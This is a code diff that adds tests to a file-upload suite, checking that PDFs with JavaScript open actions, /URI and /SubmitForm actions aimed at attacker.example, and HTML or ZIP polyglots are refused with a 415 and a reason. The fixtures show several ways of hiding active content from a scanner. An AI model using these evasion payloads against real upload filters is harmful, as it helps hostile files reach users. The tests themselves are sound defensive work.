@@ -24,6 +24,17 @@ import {
   strayFiles,
   type Caller,
 } from './attachments-kit';
+import { objectStreamPdf, pdfWith, pdfWithBefore } from './pdf-fixtures';
+
+const JS_OPEN = '<</S/JavaScript/JS(app.alert(1))>>';
+/** A ZIP end record whose comment (1500 bytes, ending in the PDF's end marker) keeps it out of the last KiB. */
+const ZIP_END_WITH_COMMENT = (() => {
+  const comment = Buffer.from(`${' '.repeat(1500)}\n%%EOF\n`);
+  const record = Buffer.alloc(22);
+  record.writeUInt32LE(0x06054b50, 0);
+  record.writeUInt16LE(comment.length, 20);
+  return Buffer.concat([record, comment]);
+})();
 
 // The attachment routes on a real database and a real folder storage under the app's DATA_DIR
 // (docs/rules/attachments.md). Sessions are real: patients sign in through the API, staff with
@@ -159,6 +170,35 @@ describe.each(backends())('attachments on %s', (backend) => {
     expect(response.statusCode, response.body).toBe(415);
     expect(response.json<{ code: string; message: string }>().code).toBe('unsupported_media_type');
     expect(response.json<{ message: string }>().message).not.toContain(fileName);
+    expect(await attachmentRows(server.db, LIAM.bookingKey)).toEqual([]);
+    expect(await strayFiles(server.db, server.dataDir)).toEqual([]);
+  });
+
+  it.each([
+    ['a JavaScript open action in a commented object stream', objectStreamPdf({ action: JS_OPEN, dictionaryExtra: '%c\n' }), 'pdf_script'],
+    [
+      'a JavaScript open action in an object stream under a predictor',
+      objectStreamPdf({ action: JS_OPEN, predictorColumns: 8 }),
+      'pdf_script',
+    ],
+    [
+      'a JavaScript open action in a padded object stream',
+      objectStreamPdf({ action: JS_OPEN, dictionaryExtra: ' '.repeat(5000) }),
+      'pdf_script',
+    ],
+    ['a /URI action', pdfWith('/OpenAction<</S/URI/URI(https://attacker.example/)>>'), 'pdf_link'],
+    ['a /SubmitForm action', pdfWith('/OpenAction<</S/SubmitForm/F(https://attacker.example/)>>'), 'pdf_link'],
+    ['a /GoToR action', pdfWith('/OpenAction<</S/GoToR/F(other.pdf)/D[0/Fit]>>'), 'pdf_link'],
+    ['an /ImportData action', pdfWith('/OpenAction<</S/ImportData/F(data.fdf)>>'), 'pdf_link'],
+    ['HTML after the first KiB', pdfWithBefore(`%${' '.repeat(2000)}\n%<script>alert(1)</script>\n`), 'polyglot'],
+    ['a ZIP end record 1.5 KiB from the end', Buffer.concat([MINIMAL_PDF, ZIP_END_WITH_COMMENT]), 'polyglot'],
+  ])('refuses a PDF with %s with 415 and its reason (issue 32)', async (_name, bytes, reason) => {
+    const response = await upload(liam, {}, 'referral.pdf', bytes, 'application/pdf');
+    expect(response.statusCode, response.body).toBe(415);
+    expect(response.json<{ code: string; details: { reason: string } }>()).toMatchObject({
+      code: 'unsupported_media_type',
+      details: { reason },
+    });
     expect(await attachmentRows(server.db, LIAM.bookingKey)).toEqual([]);
     expect(await strayFiles(server.db, server.dataDir)).toEqual([]);
   });
